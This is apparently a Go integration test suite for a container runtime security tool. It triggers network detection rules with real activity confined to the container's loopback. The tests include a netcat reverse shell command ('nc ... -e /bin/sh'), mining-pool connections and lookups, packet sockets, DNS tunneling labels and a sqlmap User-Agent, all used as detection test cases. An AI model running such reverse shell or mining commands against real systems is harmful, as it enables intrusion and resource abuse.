package runtimesecurityreceiver

import (
	"crypto/rand"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigil-sec/vigil/bpf"
	"github.com/vigil-sec/vigil/internal/dockertest"
)

// The network rules of rules/default/40-network.yaml, each fired by real
// activity in a real container, with look-alikes that must not fire. All
// traffic stays on the container's own loopback (--network none). One
// receiver and one container per test function; the cases are subtests run
// in order.

// Rule names of rules/default/40-network.yaml.
const (
	netRuleMinerPort   = "Outbound connection to common miner pool port"
	netRuleMinerPool   = "Connection to mining pool or stratum endpoint"
	netRuleMinerDNS    = "DNS lookup of mining pool domain"
	netRuleMetadata    = "Contact cloud metadata service from container"
	netRuleRevShell    = "Reverse shell with network socket as stdio"
	netRuleRawSocket   = "Raw or packet socket created in container"
	netRuleListen      = "Unexpected listening port in container"
	netRuleSSHPort     = "SSH connection to non-standard port from container"
	netRuleDNSGen      = "Generated-looking DNS name queried from container"
	netRuleDNSTunnel   = "DNS tunneling label queried from container"
	netRuleDNSRate     = "High DNS query rate from container"
	netRuleHTTPScanOut = "Scanner User-Agent in HTTP request sent from container"
	netRuleHTTPScanIn  = "Scanner or crawler User-Agent in HTTP request received by container"
)

var netRules = []string{netRuleMinerPort, netRuleMinerPool, netRuleMinerDNS, netRuleMetadata, netRuleRevShell, netRuleRawSocket,
	netRuleListen, netRuleSSHPort, netRuleDNSGen, netRuleDNSTunnel, netRuleDNSRate, netRuleHTTPScanOut, netRuleHTTPScanIn}

// startNetworkRulesReceiver runs the default ruleset (plus files) with the
// network probe sets.
func startNetworkRulesReceiver(t *testing.T, files ...string) *harness {
	return startReceiver(t, func(cfg *Config) {
		cfg.Probes = []string{bpf.ProbeSetProcess, bpf.ProbeSetNetwork, bpf.ProbeSetDNS, bpf.ProbeSetHTTP}
		cfg.Rules.Enabled = true
		cfg.Rules.DefaultRuleset = true
		cfg.Rules.Files = files
	})
}

// netAlertIn matches an alert of rule raised for a record of container c.
func netAlertIn(c *dockertest.Container, rule string, match func(record) bool) func(record) bool {
	return func(r record) bool {
		return isAlert(rule)(r) && r.resAttr("container.id") == c.ID && (match == nil || match(r))
	}
}

// netAssertLinked checks that the alert carries the trace and span of the
// process.exec record of the process that caused it.
func netAssertLinked(t *testing.T, exec, alert record) {
	t.Helper()
	assert.Equal(t, "process.exec", exec.lr.EventName())
	assert.False(t, alert.lr.SpanID().IsEmpty(), "alert has a span id")
	assert.Equal(t, exec.lr.TraceID(), alert.lr.TraceID(), "alert trace id is the process's")
	assert.Equal(t, exec.lr.SpanID(), alert.lr.SpanID(), "alert span id is the process's")
	assert.Equal(t, exec.pid(), alert.pid())
}

// netNoAlert asserts that no network rule alerted for the process of the
// first record matching event (and, among its alerts, those matching
// match), once that record was exported: its alerts are evaluated and
// exported in the same batch.
func netNoAlert(t *testing.T, h *harness, what string, event func(record) bool, match func(record) bool) {
	t.Helper()
	ev := h.waitRecord(what, 10*time.Second, event)
	for _, r := range h.records() {
		if r.lr.EventName() != "security.alert" || !slices.Contains(netRules, r.attr("security_rule.name").Str()) {
			continue
		}
		if r.lr.SpanID() == ev.lr.SpanID() && match(r) {
			t.Errorf("%s: unexpected alert %q: %s", what, r.attr("security_rule.name").Str(), r.lr.Body().Str())
		}
	}
}

func netPeerPort(p int64) func(record) bool {
	return func(r record) bool { return r.attr("network.peer.port").Int() == p }
}

// Mining pools by port, by DNS name and by stratum URL; the metadata
// service with its address list extended by a user rule file; an SSH client
// on a non-standard port.
func TestNetworkRulesConnections(t *testing.T) {
	userRules := filepath.Join(t.TempDir(), "metadata.yaml")
	require.NoError(t, os.WriteFile(userRules, []byte(`
# The metadata service is never contacted in tests: a loopback address of the
# container stands in for it, appended to the default list.
lists:
  cloud_metadata_endpoints: {append: [127.0.0.254]}
`), 0o600))
	c := dockertest.Run(t)
	h := startNetworkRulesReceiver(t, userRules)

	connect := func(t *testing.T, addr, port string, extra ...string) record {
		t.Helper()
		background(t, c, "tcpx serve "+addr+" "+port+" 0", "/tmp/srv-"+addr+"-"+port+".log", "ready")
		args := append([]string{"tcpx", "connect", addr, port, "16"}, extra...)
		out, code := c.Exec(t, args...)
		require.Equal(t, 0, code, out)
		return h.waitRecord("tcpx connect exec", 10*time.Second, execArgs(c, args...))
	}

	t.Run("miner pool port", func(t *testing.T) {
		exec := connect(t, "127.0.0.7", "3333")
		a := h.waitRecord("miner port alert", 10*time.Second, netAlertIn(c, netRuleMinerPort, netPeerPort(3333)))
		netAssertLinked(t, exec, a)
		assert.Equal(t, "127.0.0.7", a.attr("network.peer.address").Str())
		assert.Equal(t, int64(3333), a.attr("network.peer.port").Int())
		assert.Equal(t, "network.connect", a.attr("vigil.alert.event.name").Str())
		assert.Equal(t, "high", a.lr.SeverityText())
		assert.Equal(t, c.ID, a.resAttr("container.id"))
		assert.Contains(t, a.lr.Body().Str(), "127.0.0.7:3333")
		ids := a.attr("vigil.mitre.technique.id").Slice()
		require.Equal(t, 1, ids.Len())
		assert.Equal(t, "T1496", ids.At(0).Str())

		// The alert is also an event on the process span, sent when tcpx exits.
		sp := h.waitSpan(exec.lr.SpanID(), 10*time.Second)
		var names []string
		for i := 0; i < sp.s.Events().Len(); i++ {
			v, _ := sp.s.Events().At(i).Attributes().Get("security_rule.name")
			names = append(names, v.Str())
		}
		assert.Contains(t, names, netRuleMinerPort)
	})

	t.Run("benign web port", func(t *testing.T) {
		connect(t, "127.0.0.1", "8080")
		netNoAlert(t, h, "connect to 8080", named("network.connect", c, netPeerPort(8080)), netPeerPort(8080))
	})

	t.Run("mining pool by DNS name", func(t *testing.T) {
		background(t, c, "dnsd 127.0.0.53 53 xmr.nanopool.org 127.0.0.8", "/tmp/dnsd.log", "ready")
		out, code := c.Exec(t, "nslookup", "xmr.nanopool.org", "127.0.0.53")
		require.Equal(t, 0, code, out)
		lookup := h.waitRecord("nslookup exec", 10*time.Second, execArgs(c, "nslookup", "xmr.nanopool.org", "127.0.0.53"))
		a := h.waitRecord("pool lookup alert", 10*time.Second, netAlertIn(c, netRuleMinerDNS, nil))
		netAssertLinked(t, lookup, a)
		assert.Equal(t, "xmr.nanopool.org", a.attr("dns.question.name").Str())
		assert.Equal(t, "dns.query", a.attr("vigil.alert.event.name").Str())

		exec := connect(t, "127.0.0.8", "10128")
		a = h.waitRecord("pool connect alert", 10*time.Second, netAlertIn(c, netRuleMinerPool, netPeerPort(10128)))
		netAssertLinked(t, exec, a)
		assert.Equal(t, "xmr.nanopool.org", a.attr("server.address").Str(), "the name the container resolved")
		assert.Equal(t, "127.0.0.8", a.attr("network.peer.address").Str())
		assert.Equal(t, "critical", a.lr.SeverityText())
	})

	t.Run("stratum URL in arguments", func(t *testing.T) {
		exec := connect(t, "127.0.0.9", "443", "stratum+tcp://127.0.0.9:443")
		a := h.waitRecord("stratum alert", 10*time.Second, netAlertIn(c, netRuleMinerPool, netPeerPort(443)))
		netAssertLinked(t, exec, a)
		assert.Equal(t, "127.0.0.9", a.attr("network.peer.address").Str())
	})

	t.Run("cloud metadata endpoint from the user list", func(t *testing.T) {
		exec := connect(t, "127.0.0.254", "80")
		a := h.waitRecord("metadata alert", 10*time.Second, netAlertIn(c, netRuleMetadata, netPeerPort(80)))
		netAssertLinked(t, exec, a)
		assert.Equal(t, "127.0.0.254", a.attr("network.peer.address").Str())
		assert.Equal(t, "credential_access", a.attr("security_rule.category").Str())
		assert.Equal(t, "https://attack.mitre.org/techniques/T1552/005/", a.attr("security_rule.reference").Str())
		// A neighbouring address is not in the list.
		connect(t, "127.0.0.253", "80")
		netNoAlert(t, h, "connect to 127.0.0.253", named("network.connect", c, func(r record) bool {
			return r.attr("network.peer.address").Str() == "127.0.0.253"
		}), func(record) bool { return true })
	})

	t.Run("ssh to a non-standard port", func(t *testing.T) {
		_, code := c.Exec(t, "cp", "/usr/local/bin/sshlike", "/usr/local/bin/ssh")
		require.Equal(t, 0, code)
		background(t, c, "tcpx serve 127.0.0.1 22 0", "/tmp/sshd22.log", "ready")
		out, code := c.Exec(t, "ssh", "127.0.0.1")
		require.Equal(t, 0, code, out)
		netNoAlert(t, h, "ssh to 22", named("network.connect", c, func(r record) bool {
			return r.attr("network.peer.port").Int() == 22 && r.attr("process.executable.name").Str() == "ssh"
		}), func(record) bool { return true })

		background(t, c, "tcpx serve 127.0.0.1 2222 0", "/tmp/sshd2222.log", "ready")
		out, code = c.Exec(t, "ssh", "-p", "2222", "127.0.0.1")
		require.Equal(t, 0, code, out)
		exec := h.waitRecord("ssh exec", 10*time.Second, execArgs(c, "ssh", "-p", "2222", "127.0.0.1"))
		a := h.waitRecord("ssh alert", 10*time.Second, netAlertIn(c, netRuleSSHPort, nil))
		netAssertLinked(t, exec, a)
		assert.Equal(t, int64(2222), a.attr("network.peer.port").Int())
		assert.Equal(t, "/usr/local/bin/ssh", a.attr("process.executable.path").Str())
		// The server got the banner: sshlike speaks (the start of) SSH.
		srv, _ := c.Exec(t, "cat", "/tmp/sshd2222.log")
		assert.Contains(t, srv, "received 21")
	})
}

// A reverse shell from busybox nc -e, an unexpected listener, raw and
// packet sockets.
func TestNetworkRulesShellsSocketsListeners(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkRulesReceiver(t)

	t.Run("reverse shell", func(t *testing.T) {
		// Look-alike first: a shell reading a pipe.
		_, code := c.Exec(t, "sh", "-c", "echo 'exit 0' | sh -s benign-pipe-shell")
		require.Equal(t, 0, code)
		netNoAlert(t, h, "shell on a pipe", execArgs(c, "sh", "-s", "benign-pipe-shell"), func(record) bool { return true })

		background(t, c, "(echo exit; sleep 1) | nc -l -p 4444", "/tmp/l.log", "")
		h.waitRecord("attacker listen", 10*time.Second, named("network.listen", c, func(r record) bool {
			return r.attr("network.local.port").Int() == 4444
		}))
		out, code := c.Exec(t, "nc", "127.0.0.1", "4444", "-e", "/bin/sh")
		require.Equal(t, 0, code, out)

		sh := h.waitRecord("reverse shell exec", 10*time.Second, named("process.exec", c, func(r record) bool {
			return r.attr("process.executable.path").Str() == "/bin/sh" && r.attr("vigil.process.stdio_socket").Bool()
		}))
		a := h.waitRecord("reverse shell alert", 10*time.Second, netAlertIn(c, netRuleRevShell, nil))
		netAssertLinked(t, sh, a)
		assert.True(t, a.attr("vigil.process.stdio_socket").Bool())
		assert.Equal(t, "process.exec", a.attr("vigil.alert.event.name").Str())
		assert.Equal(t, "critical", a.lr.SeverityText())
		conn := h.waitRecord("nc connect", 5*time.Second, named("network.connect", c, netPeerPort(4444)))
		assert.Equal(t, conn.pid(), a.pid(), "the shell runs in the process that connected")
		assert.Equal(t, conn.lr.TraceID(), a.lr.TraceID())
	})

	t.Run("unexpected listening port", func(t *testing.T) {
		// Look-alikes: a web server on an allowed port, and a listener on
		// loopback only.
		_, code := c.Exec(t, "httpd", "-p", "8080", "-h", "/tmp")
		require.Equal(t, 0, code)
		netNoAlert(t, h, "httpd listen 8080", named("network.listen", c, func(r record) bool {
			return r.attr("network.local.port").Int() == 8080
		}), func(record) bool { return true })
		background(t, c, "tcpx serve 127.0.0.1 31338 0", "/tmp/lo.log", "ready")
		netNoAlert(t, h, "loopback listen 31338", named("network.listen", c, func(r record) bool {
			return r.attr("network.local.port").Int() == 31338
		}), func(record) bool { return true })

		background(t, c, "nc -l -p 31337", "/tmp/bind.log", "")
		exec := h.waitRecord("nc -l exec", 10*time.Second, execArgs(c, "nc", "-l", "-p", "31337"))
		a := h.waitRecord("listen alert", 10*time.Second, netAlertIn(c, netRuleListen, func(r record) bool {
			return r.attr("network.local.port").Int() == 31337
		}))
		netAssertLinked(t, exec, a)
		assert.Equal(t, "tcp", a.attr("network.transport").Str())
		assert.Contains(t, []string{"0.0.0.0", "::"}, a.attr("network.local.address").Str(), "any address (busybox nc listens on IPv6 ::)")
		assert.Equal(t, "network.listen", a.attr("vigil.alert.event.name").Str())
		assert.Greater(t, a.attr("process.vpid").Int(), int64(1), "not the entrypoint, whose listeners are its service")
	})

	t.Run("packet socket", func(t *testing.T) {
		// Look-alike: ping's raw ICMP socket (the traffic is to the
		// container's own loopback).
		out, code := c.Exec(t, "ping", "-c", "1", "127.0.0.1")
		require.Equal(t, 0, code, out)
		netNoAlert(t, h, "ping raw socket", named("network.socket_raw", c, func(r record) bool {
			return r.attr("process.executable.name").Str() == "ping"
		}), func(record) bool { return true })

		out, code = c.Exec(t, "rawsock", "packet")
		require.Equal(t, 0, code, out)
		exec := h.waitRecord("rawsock exec", 10*time.Second, execArgs(c, "rawsock", "packet"))
		a := h.waitRecord("packet socket alert", 10*time.Second, netAlertIn(c, netRuleRawSocket, nil))
		netAssertLinked(t, exec, a)
		assert.Equal(t, "packet", a.attr("vigil.network.socket.family").Str())
		assert.Equal(t, "raw", a.attr("vigil.network.socket.type").Str())
		assert.Equal(t, int64(768), a.attr("vigil.network.socket.protocol").Int(), "htons(ETH_P_ALL)")
	})

	t.Run("packet socket on the host", func(t *testing.T) {
		// The same socket from a host process (this test): container-scoped.
		fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0x0300)
		require.NoError(t, err)
		require.NoError(t, syscall.Close(fd))
		pid := int64(os.Getpid())
		host := h.waitRecord("host packet socket", 10*time.Second, func(r record) bool {
			return r.lr.EventName() == "network.socket_raw" && r.pid() == pid
		})
		assert.Empty(t, host.resAttr("container.id"))
		for _, r := range h.records() {
			if isAlert(netRuleRawSocket)(r) && r.pid() == pid {
				t.Errorf("host packet socket alerted: %s", r.lr.Body().Str())
			}
		}
	})
}

// Generated-looking and tunnel-like names, and a burst of queries, to a DNS
// server on the container's loopback.
func TestNetworkRulesDNS(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkRulesReceiver(t)
	background(t, c, "dnsd 127.0.0.53 53 www.example.com 127.0.0.10", "/tmp/dnsd.log", "ready")

	lookup := func(t *testing.T, name string) record {
		t.Helper()
		c.Exec(t, "nslookup", name, "127.0.0.53") // NXDOMAIN (exit 1) is fine
		return h.waitRecord("nslookup exec", 10*time.Second, execArgs(c, "nslookup", name, "127.0.0.53"))
	}
	query := func(name string) func(record) bool {
		return named("dns.query", c, func(r record) bool {
			return r.attr("dns.question.name").Str() == name && r.attr("network.io.direction").Str() == "transmit"
		})
	}

	t.Run("benign names", func(t *testing.T) {
		for _, name := range []string{"www.example.com", "this-is-a-perfectly-normal-hostname.example.com"} {
			lookup(t, name)
			netNoAlert(t, h, "query "+name, query(name), func(record) bool { return true })
		}
	})

	t.Run("generated-looking name", func(t *testing.T) {
		const name = "q8z3k7m1x9v4b6n2c5l0w8r3t7y1pj.example.com" // a 30-character label, 4.64 bits per character
		exec := lookup(t, name)
		a := h.waitRecord("generated name alert", 10*time.Second, netAlertIn(c, netRuleDNSGen, nil))
		netAssertLinked(t, exec, a)
		assert.Equal(t, name, a.attr("dns.question.name").Str())
		assert.Equal(t, "transmit", a.attr("network.io.direction").Str())
		assert.Equal(t, int64(53), a.attr("network.peer.port").Int())
		assert.Equal(t, "127.0.0.53", a.attr("network.peer.address").Str())
	})

	t.Run("tunnel-like label", func(t *testing.T) {
		name := netRandomLabel(50) + ".t.example.com"
		exec := lookup(t, name)
		a := h.waitRecord("tunnel alert", 10*time.Second, netAlertIn(c, netRuleDNSTunnel, nil))
		netAssertLinked(t, exec, a)
		assert.Equal(t, name, a.attr("dns.question.name").Str())
		assert.Contains(t, a.lr.Body().Str(), "longest label 50 characters")
		for _, r := range h.records() {
			if isAlert(netRuleDNSGen)(r) && r.attr("dns.question.name").Str() == name {
				t.Error("a tunnel label raises the tunnel rule only")
			}
		}
	})

	t.Run("query burst", func(t *testing.T) {
		_, code := c.Exec(t, "sh", "-c", "for i in $(seq 60); do nslookup n$i.burst.test 127.0.0.53 >/dev/null 2>&1; done; true")
		require.Equal(t, 0, code)
		a := h.waitRecord("rate alert", 15*time.Second, netAlertIn(c, netRuleDNSRate, nil))
		assert.Greater(t, a.attr("vigil.alert.rate.count").Int(), int64(50))
		assert.Equal(t, "10s", a.attr("vigil.alert.rate.window").Str())
		assert.True(t, strings.HasSuffix(a.attr("dns.question.name").Str(), ".burst.test"), a.attr("dns.question.name").Str())
		exec := h.waitRecord("exec of the query that crossed the threshold", 5*time.Second, func(r record) bool {
			return r.lr.EventName() == "process.exec" && r.lr.SpanID() == a.lr.SpanID()
		})
		netAssertLinked(t, exec, a)
		assert.Equal(t, "nslookup", exec.args()[0])
		n := 0
		for _, r := range h.records() {
			if netAlertIn(c, netRuleDNSRate, nil)(r) {
				n++
			}
		}
		assert.Equal(t, 1, n, "one alert per window")
	})
}

// Scanner User-Agents sent and received by a container, against busybox
// httpd on its loopback.
func TestNetworkRulesHTTP(t *testing.T) {
	c := dockertest.Run(t)
	h := startNetworkRulesReceiver(t)
	// In the foreground (backgrounded by the shell), so the exec'd process
	// is the listener.
	background(t, c, "httpd -f -p 127.0.0.1:8080 -h /tmp", "/tmp/httpd.log", "")
	httpd := h.waitRecord("httpd exec", 10*time.Second, execArgs(c, "httpd", "-f", "-p", "127.0.0.1:8080", "-h", "/tmp"))
	h.waitRecord("httpd listen", 10*time.Second, named("network.listen", c, func(r record) bool {
		return r.attr("network.local.port").Int() == 8080
	}))

	request := func(t *testing.T, path, ua string) record {
		t.Helper()
		args := []string{"wget", "-q", "-O", "-", "-U", ua, "http://127.0.0.1:8080" + path}
		c.Exec(t, args...) // 404 is fine
		return h.waitRecord("wget exec", 10*time.Second, execArgs(c, args...))
	}
	httpReq := func(dir, path string) func(record) bool {
		return named("http.request", c, func(r record) bool {
			return r.attr("network.io.direction").Str() == dir && r.attr("url.path").Str() == path
		})
	}
	anyAlert := func(record) bool { return true }

	t.Run("benign browser User-Agent", func(t *testing.T) {
		request(t, "/benign", "Mozilla/5.0")
		netNoAlert(t, h, "request sent", httpReq("transmit", "/benign"), anyAlert)
		netNoAlert(t, h, "request received", httpReq("receive", "/benign"), anyAlert)
	})

	t.Run("scanner User-Agent", func(t *testing.T) {
		wget := request(t, "/admin?id=1", "sqlmap/1.0")
		out := h.waitRecord("outbound scanner alert", 10*time.Second, netAlertIn(c, netRuleHTTPScanOut, nil))
		netAssertLinked(t, wget, out)
		assert.Equal(t, "sqlmap/1.0", out.attr("user_agent.original").Str())
		assert.Equal(t, "/admin", out.attr("url.path").Str())
		assert.Equal(t, "GET", out.attr("http.request.method").Str())
		assert.Equal(t, "127.0.0.1", out.attr("server.address").Str())
		assert.Equal(t, int64(8080), out.attr("network.peer.port").Int())
		assert.Equal(t, "http.request", out.attr("vigil.alert.event.name").Str())

		recv := h.waitRecord("request received", 10*time.Second, httpReq("receive", "/admin"))
		in := h.waitRecord("inbound scanner alert", 10*time.Second, netAlertIn(c, netRuleHTTPScanIn, nil))
		assert.Equal(t, "sqlmap/1.0", in.attr("user_agent.original").Str())
		assert.Equal(t, "low", in.lr.SeverityText())
		assert.Equal(t, recv.lr.SpanID(), in.lr.SpanID(), "the alert is the receiving record's")
		// An accepted connection belongs to the listener: httpd, whose
		// child serves the request.
		netAssertLinked(t, httpd, in)
		assert.Equal(t, c.ID, in.resAttr("container.id"))
	})
}

// randomLabel is n random lower-case letters and digits.
func netRandomLabel(n int) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	_, _ = rand.Read(b)
	for i := range b {
		b[i] = alphabet[int(b[i])%len(alphabet)]
	}
	return string(b)
}
